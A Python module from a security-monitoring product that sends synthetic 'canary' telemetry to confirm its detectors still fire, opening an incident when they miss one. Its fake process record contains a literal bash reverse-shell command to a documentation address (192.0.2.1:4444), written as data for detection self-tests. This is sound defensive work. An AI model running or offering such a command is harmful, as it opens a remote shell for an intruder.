"""Canaries: what must be found, sent on a schedule through the way in; a detector that stays silent is an incident."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, replace
from hashlib import blake2b
from threading import Event
from typing import Any, Final

import orjson
import pyarrow as pa
import pyarrow.compute as pc

from vedette.config.schema import Config
from vedette.decode.json_lines import JsonLines
from vedette.engine.clock import now
from vedette.engine.intake import CountingIntake
from vedette.errors import Backpressure
from vedette.records import schema
from vedette.records.document import Document, from_document, to_document
from vedette.records.finding import Kind
from vedette.records.incident import Contribution, Explanation, Incident, Moment, Phase, Severity
from vedette.records.schema import Signal
from vedette.records.score import State
from vedette.records.segment import Segment
from vedette.records.time import SECOND, rfc3339
from vedette.store.events import EventStore
from vedette.store.incidents import Incidents
from vedette.store.settings import Settings
from vedette.telemetry import metrics

SERVICE: Final = "vedette-canary"
"""Whose telemetry the part for rules claims to be, so that it joins no incident of a service."""

LOOK_EVERY: Final = 10.0
LEAST_WITHIN: Final = 300 * SECOND
HOUR: Final = 3600 * SECOND
TIMES, LEAST, MOST = 20.0, 120, 3000
"""How many times the usual requests of a minute are sent as failures, and how many at least and at most."""

ROUTES: Final = (schema.METHOD, schema.ROUTE)
STRANGER: Final = "192.0.2.1"
"""An address for documentation (RFC 5737), that no client has."""

RULES, BASELINE = "sigma", "baseline"
NAMES: Final = {RULES: "rules", BASELINE: "the learned baseline"}
OUT, LAST, OPEN = "canary.out", "canary.last", "canary.open"
"""Settings: the canary that is out, what became of the last one, the incident that lasts."""


@dataclass(frozen=True, slots=True)
class Aviary:
    """What canaries need of the product."""

    config: Config
    intake: CountingIntake
    events: EventStore
    incidents: Incidents
    settings: Settings
    tell: Callable[[Document], None]
    """Notifies of an incident."""


class Canaries:
    """Sends canaries and listens for them.

    Notes
    -----
    A canary is simulated telemetry: nothing is learned from it and nobody is paged by it. For *rules* it is a web
    server that starts a shell, in a service of its own. For *the learned baseline* it is a burst of failed requests on
    the route that was asked most in the last hour, if its service is judged and has no incident open. It goes the
    whole way from the decoders on: gate, journal, shard, store. What each of the two is to find is looked for in the
    incidents of that canary, for three windows and five minutes at least.

    **It fails** to test receivers and notifications, novelty, and what is blind in other services.
    """

    def __init__(self, aviary: Aviary) -> None:
        self._its = aviary
        features = aviary.config.features
        self.within = max(LEAST_WITHIN, round((3 * features.window + features.lateness) * SECOND))
        self._every = round(aviary.config.canary.every * SECOND)

    def run(self, stop: Event) -> None:
        """Look at the clock until stopped; at once the end where there is no schedule."""
        while self._every and not stop.wait(LOOK_EVERY):
            with suppress(Backpressure):  # at the next look
                self.step(now())

    def step(self, moment: int) -> None:
        """Do what is due at a time (ns since the epoch): send, listen, or give up."""
        out = self._its.settings.get(OUT)
        if out is None:
            last = self._its.settings.get(LAST, {"at": 0})
            if moment >= last["at"] + self._every:
                self._send(moment)
            return
        heard = self._heard(out["name"], out["at"])
        silent = [name for name in out["expected"] if name not in heard]
        late = moment - out["at"] >= self.within
        if not silent or late:
            slept = moment - out["at"] > 2 * self.within  # the server was down meanwhile: nobody was silent
            self._conclude(out, [] if slept else silent, moment)

    def _send(self, moment: int) -> None:
        name = "canary-" + blake2b(str(moment).encode(), digest_size=3).hexdigest()
        records, expected = [_shell(moment)], [RULES]
        target = self._target(moment)
        if target is not None:
            records += target
            expected.append(BASELINE)
        body = b"\n".join(map(orjson.dumps, records)) + b"\n"
        decoded = replace(JsonLines(SERVICE).decode(body, moment), simulation=name)
        self._its.intake.accept(decoded, "canary").result(timeout=60.0)
        self._its.settings.set(OUT, {"name": name, "at": moment, "expected": expected})

    def _target(self, moment: int) -> list[dict[str, Any]] | None:
        """Return failures of the route that is asked most, or None where nothing is judged that could notice."""
        asked = [row for signal in (Signal.SPAN, Signal.LOG) for row in self._asked(signal, moment)]
        if not asked:
            return None
        top = max(asked, key=lambda row: (row["count"], row[schema.SERVICE] or "", row[schema.ROUTE]))
        if not self._listens(top[schema.SERVICE] or "", moment):
            return None
        number = min(max(round(TIMES * top["count"] / 60), LEAST), MOST)
        named = {name: top[name] for name in (schema.ENVIRONMENT, schema.SERVICE, *ROUTES) if top[name]}
        answer = {schema.PATH: "/", "client.address": STRANGER, schema.STATUS: 500, schema.DURATION: 0.05, **named}
        return [{"@timestamp": rfc3339(moment + round(place * SECOND / number)), **answer} for place in range(number)]

    def _asked(self, signal: Signal, moment: int) -> list[dict[str, Any]]:
        """Return each route that was asked in the last hour, with how often."""
        names = [schema.ENVIRONMENT, schema.SERVICE, *ROUTES]
        rows = self._its.events.scan(signal.value, moment - HOUR, moment, names)
        rows = rows.filter(pc.and_(pc.is_valid(rows[schema.METHOD]), pc.is_valid(rows[schema.ROUTE])))
        texts = pa.table({name: rows[name].cast(pa.string()) for name in names})
        counted = texts.group_by(names).aggregate([([], "count_all")])
        return [{**row, "count": row["count_all"]} for row in counted.to_pylist()]

    def _listens(self, service: str, moment: int) -> bool:
        """Say whether a service is judged, and has no incident that the canary would join."""
        points = self._its.events.scan("series", moment - HOUR, moment, ["service", "state"])
        ready = pc.and_(pc.equal(points["service"].cast("string"), service), pc.equal(points["state"], State.READY))
        lasting = self._its.incidents.list(phases=[Phase.PENDING.value, Phase.FIRING.value], limit=500).items
        busy = any(one["segment_parts"]["service"] == service and one["ended_at"] is None for one in lasting)
        return bool(pc.any(ready).as_py()) and not busy

    def _heard(self, name: str, since: int) -> set[str]:
        """Return which detectors found a canary."""
        items = self._its.incidents.list(since=since - HOUR, limit=500).items
        mine = [one for one in items if one.get("simulated") == name and one["phase"] != Phase.PENDING.value]
        return {part["detector"] for one in mine for part in one["explanation"]["contributions"]}

    def _conclude(self, out: Document, silent: list[str], moment: int) -> None:
        for name in silent:
            metrics.CANARY_MISSED.add(1, NAMES[name])
        lasting: Document | None = self._its.settings.get(OPEN)
        if silent:
            lasting = self._told(out["at"], silent, moment, lasting)
        elif lasting is not None:
            over = {**lasting, "phase": Phase.RESOLVED.value, "ended_at": rfc3339(moment)}
            self._tell(over)
            lasting = None
        self._its.settings.set(OPEN, lasting)
        tested = [NAMES[name] for name in out["expected"]]
        missed = [NAMES[name] for name in silent]
        self._its.settings.set(
            LAST, {"at": out["at"], "tested": tested, "missed": missed, "seconds": (moment - out["at"]) // SECOND}
        )
        self._its.settings.set(OUT, None)

    def _told(self, sent: int, silent: list[str], moment: int, lasting: Document | None) -> Document:
        started = sent if lasting is None else from_document(lasting).started_at
        document = to_document(_incident(started, silent, moment, self.within))
        self._tell(document)
        return document

    def _tell(self, document: Document) -> None:
        self._its.incidents.save([from_document(document)], [])
        self._its.tell(document)


def _shell(moment: int) -> dict[str, Any]:
    """Return what an agent says of a web server that starts a shell."""
    return {
        "@timestamp": rfc3339(moment),
        "service.name": SERVICE,
        "Computer": SERVICE,
        "User": "www-data",
        "Image": "/usr/bin/bash",
        "CommandLine": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "ParentImage": "/usr/sbin/nginx",
        "vedette.logsource": "linux/process_creation",
    }


def _incident(started: int, silent: list[str], moment: int, within: int) -> Incident:
    who = " and ".join(NAMES[name] for name in silent)
    title = f"canary not detected within {within // (60 * SECOND)} minutes by {who}"
    place = Segment("", "vedette", "canary")
    share = 100.0 / len(silent)
    parts = tuple(
        Contribution(place, "canary", name, share, 0.0, 1.0, 1.0, 1.0, "", f"{NAMES[name]} did not notice it", "")
        for name in silent
    )
    return Incident(
        id=blake2b(f"canary\0{started}".encode(), digest_size=5).hexdigest(),
        phase=Phase.FIRING,
        kind=Kind.OPERATIONS,
        severity=Severity.HIGH,
        score=80.0,
        title=title,
        segment=place,
        started_at=started,
        updated_at=moment,
        ended_at=None,
        event_count=1,
        techniques=(),
        entities=(),
        finding_ids=(),
        explanation=Explanation(
            sentence=title,
            paragraph=f"Telemetry that {who} must notice was sent through the way in, and no incident followed.",
            contributions=parts,
            lowered=(),
            counterfactual="would not have fired if the canary had been found",
            rarity="",
            evidence=(),
            timeline=(Moment(started, "canary sent", 0.0), Moment(moment, "incident opened", 80.0)),
            next_steps=("vedette doctor", "vedette prove"),
        ),
    )
